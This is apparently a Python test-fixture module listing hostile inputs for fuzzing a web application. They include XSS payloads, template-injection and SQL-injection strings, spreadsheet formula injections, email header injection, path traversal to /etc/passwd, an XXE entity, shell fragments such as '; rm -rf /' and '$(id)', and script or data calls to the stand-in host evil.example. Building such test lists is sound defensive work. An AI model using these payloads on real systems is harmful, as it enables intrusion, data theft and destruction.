"""What somebody may type who means harm, or whose keyboard, mailbox or word processor does it for them."""

SUM = "9801547"
"""What a template makes of the sums below; nobody types it."""
SCRIPTS = (
    "<script>pwned=1</script>", "</textarea><script>pwned=1</script>", "</title><script>pwned=1</script>",
    "</style><script>pwned=1</script>", "--><script>pwned=1</script>", "]]><script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script/xlink:href=//evil.example></script>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>", "<<script>pwned=1//<</script>", "%3Cscript%3Epwned=1%3C/script%3E",
    "&lt;script&gt;pwned=1&lt;/script&gt;", "&#60;script&#62;pwned=1&#60;/script&#62;", "\\x3cscript\\x3epwned=1\\x3c/script\\x3e",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e", "＜script＞pwned=1＜/script＞", "<script>/*", "*/pwned=1</script>", "<script\n>pwned=1</script\n>",
)  # fmt: skip
HANDLERS = (
    '"><img src=x onerror=pwned=1>', "'><img src=x onerror=pwned=1>", "<img src=x onerror=pwned=1>", "<svg onload=pwned=1>",
    "<svg/onload=pwned=1>", "<body onload=pwned=1>", "<input autofocus onfocus=pwned=1>", '" autofocus onfocus="pwned=1',
    "' autofocus onfocus='pwned=1", "` onmouseover=`pwned=1", "<details open ontoggle=pwned=1>", "<video><source onerror=pwned=1>",
    "<marquee onstart=pwned=1>", "<a href=# onclick=pwned=1>x</a>", "<style>@import'//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<iframe src=//evil.example>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<form action=//evil.example><button>x", "<math><mtext><img src=x onerror=pwned=1>",
    "<template><script>pwned=1</script></template>", "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<x contenteditable onblur=pwned=1>", "</form><form>", "<!--", "<![CDATA[<script>pwned=1</script>]]>",
)  # fmt: skip
ADDRESSES = (
    "javascript:pwned=1", "JaVaScRiPt:pwned=1", " javascript:pwned=1", "java\tscript:pwned=1", "data:text/html,<script>pwned=1</script>",
    "vbscript:pwned=1", "javascript&colon;pwned=1", "//evil.example/x", "https://evil.example/login", "http://evil.example@award.example/",
    "http://award.example.evil.example/", "http://award.example:x@evil.example/", "www.evil.example", "mailto:evil@evil.example?bcc=all@evil.example",
    "file:///etc/passwd", "[gagnez](https://evil.example)", "[x](javascript:pwned=1)", "![x](https://evil.example/x.png)",
    "<https://evil.example>", "<a href='javascript:pwned=1'>x</a>", '<a href="https://evil.example">http://award.example</a>', 'http://award.example/"><script>pwned=1</script>',
)  # fmt: skip
TEMPLATES = (
    "{{1337*7331}}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>", "{%print(1337*7331)%}", "{{''.__class__.__mro__}}",
    "{{config}}", "{{request.app.state}}", "{% include '/etc/passwd' %}", "{% raw %}", "{# rien", "{{", "}}", "%(name)s", "%s%s%n",
    "{name}", "{0.__class__}", "{company}", "{text}", "{{{{1337*7331}}}}", "[[1337*7331]]", "@(1337*7331)", "$(id)", "`id`",
)  # fmt: skip
FORMULAS = (
    "=1337*7331", "=cmd|' /C calc'!A0", "+1337*7331", "-1337*7331", "@SUM(1+1)", "\t=1337*7331", "\r=1337*7331", "\n=1337*7331",
    " =1337*7331", '=HYPERLINK("https://evil.example","x")', '=WEBSERVICE("https://evil.example")', '=IMPORTXML("https://evil.example","//a")',
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@", "=", "+", "-", "＝1337*7331", "＋1337", "%0A=1337*7331", "\u200b=1337*7331", "\ufeff=1337*7331", "'=1337*7331",
)  # fmt: skip
MAILS = (
    "x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example", "x\rBcc: all@evil.example", "x\r\n\r\n<html><script>pwned=1</script>",
    "Subject: gagné", "To: all@evil.example", "\r\n.\r\nMAIL FROM:<evil@evil.example>", "\n.\n", "From evil", "--===============1==",
    "=?utf-8?q?=0ABcc:_all=40evil.example?=", "x%0d%0aBcc: all@evil.example", "x\u2028Bcc: all@evil.example", "x\u0085Bcc: all@evil.example",
    '"evil" <evil@evil.example>', "evil@evil.example, all@evil.example", "BEGIN:VEVENT", "x\r\nEND:VCALENDAR", "x\nATTENDEE:mailto:evil@evil.example",
)  # fmt: skip
SIGNS = (
    "\0", "a\0b", "\ud800", "\udfff\ud800", "\ufffe", "\uffff", "\x01\x02\x03", "\x1b[31mrouge", "\x7f", "\x08\x08\x08", "\x85", "\ufffd",
    "\u202eelocsid", "\u2066x\u2069", "\u200f\u200e", "\u200b", "\u200d\u200d", "\ufeff", "\u00ad", "\u2060", "\u3164", "\u115f",
    "Z" + "\u0363" * 60, "ặ̶̛" * 20, "\u0300\u0301", "👩‍👩‍👧‍👦", "🏳️‍🌈" * 10, "👍🏿", "\U000e0041\U000e0042", "𝔭𝔯𝔦𝔵", "ﷺ", "﷽", "ſ", "İı", "ß", "Å\u030a",
    "١٢٣", "१२३", "１２３", "²³", "½", "Ⅷ", "𝟙𝟚", "1_000", "1e999", "NaN", "Infinity", "-0", "0x1F", "9" * 400, "1,5.3",
)  # fmt: skip
STORES = (
    "' OR '1'='1", "'; DROP TABLE response; --", '" OR ""="', "1; DELETE FROM person", "\\'; --", "%' AND 1=0 UNION SELECT password FROM person --",
    "%", "_", "\\", "NULL", "None", "undefined", "null", "true", "[]", "{}", "__proto__", "constructor", "../../../etc/passwd",
    "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\nul", "con", "....//....//", "%2e%2e%2f", "file.pdf\0.exe", "~", "$HOME", "; rm -rf /", "| id",
)  # fmt: skip
DOCUMENTS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "&e;", "&amp;amp;", "&#x0;", "&nbsp;",
    '<font color="red" size="99">x</font>', "<para>x</para>", "</para>", "<b>x", "<img src='file:///etc/passwd'/>", "<a href='https://evil.example'>x</a>",
    "<seq id='x'/>", "<onDraw name='x'/>", "<br/>", "<super>x</super>", '"', '""', "'", '","', "a;b,c\td", '"\r\n"x', "a\nb\nc", "# titre", "**gras**", "| a | b |", "```",
)  # fmt: skip
LONG = ("W" * 1900, "mot " * 450, "é" * 1900, "\n" * 1500 + "x", "<b>" * 600)

HOSTILE: tuple[str, ...] = (
    *SCRIPTS, *HANDLERS, *ADDRESSES, *TEMPLATES, *FORMULAS, *MAILS, *SIGNS, *STORES, *DOCUMENTS, *LONG
)  # fmt: skip


def keepable(text: str) -> str:
    """As far as databases keep texts at all: neither nulls nor halves of characters, which the doors turn away."""
    return "".join(each for each in text if each and not "\ud800" <= each <= "\udfff").replace("\0", "")


KEPT: tuple[str, ...] = tuple(filter(None, map(keepable, HOSTILE)))
